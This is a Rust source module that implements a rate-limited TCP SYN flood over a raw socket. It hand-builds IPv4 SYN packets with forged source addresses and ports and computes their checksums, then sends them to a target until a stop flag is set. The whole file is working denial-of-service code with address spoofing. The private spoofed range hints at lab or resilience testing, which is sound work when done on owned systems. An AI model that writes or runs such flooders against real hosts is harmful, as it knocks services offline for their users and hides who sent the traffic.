//! SYN packets from addresses that do not exist, through a raw socket.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::streams::mix;

/// Sends SYN packets until told to stop, at most 20,000 a second; how many.
pub(crate) fn flood(to: SocketAddrV4, stop: &AtomicBool) -> u64 {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))).unwrap();
    socket.set_header_included_v4(true).unwrap();
    let target = SockAddr::from(to);
    let mut sent = 0;
    while !stop.load(Ordering::SeqCst) {
        for _ in 0..20 {
            let number = mix(sent);
            let [a, b, c, d, ..] = number.to_le_bytes();
            let from = SocketAddrV4::new(
                Ipv4Addr::new(10, 9, a, b),
                1024 + u16::from_le_bytes([c, d]) % 60_000,
            );
            sent += u64::from(socket.send_to(&syn(from, to, number), &target).is_ok());
        }
        crate::peer::pause(1);
    }
    sent
}

/// An IPv4 packet with a SYN.
fn syn(from: SocketAddrV4, to: SocketAddrV4, number: u64) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[3] = 40;
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    packet[20..22].copy_from_slice(&from.port().to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&number.to_le_bytes()[4..]);
    // Header of 20 bytes, SYN, a window.
    packet[32] = 0x50;
    packet[33] = 0x02;
    packet[34] = 0x20;
    // The pseudo header: addresses, protocol, length. The kernel fills in the sum of IPv4's own.
    let words =
        packet[12..].chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])));
    let mut sum: u32 = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let sum = !u16::try_from(sum).unwrap();
    packet[36..38].copy_from_slice(&sum.to_be_bytes());
    packet
}
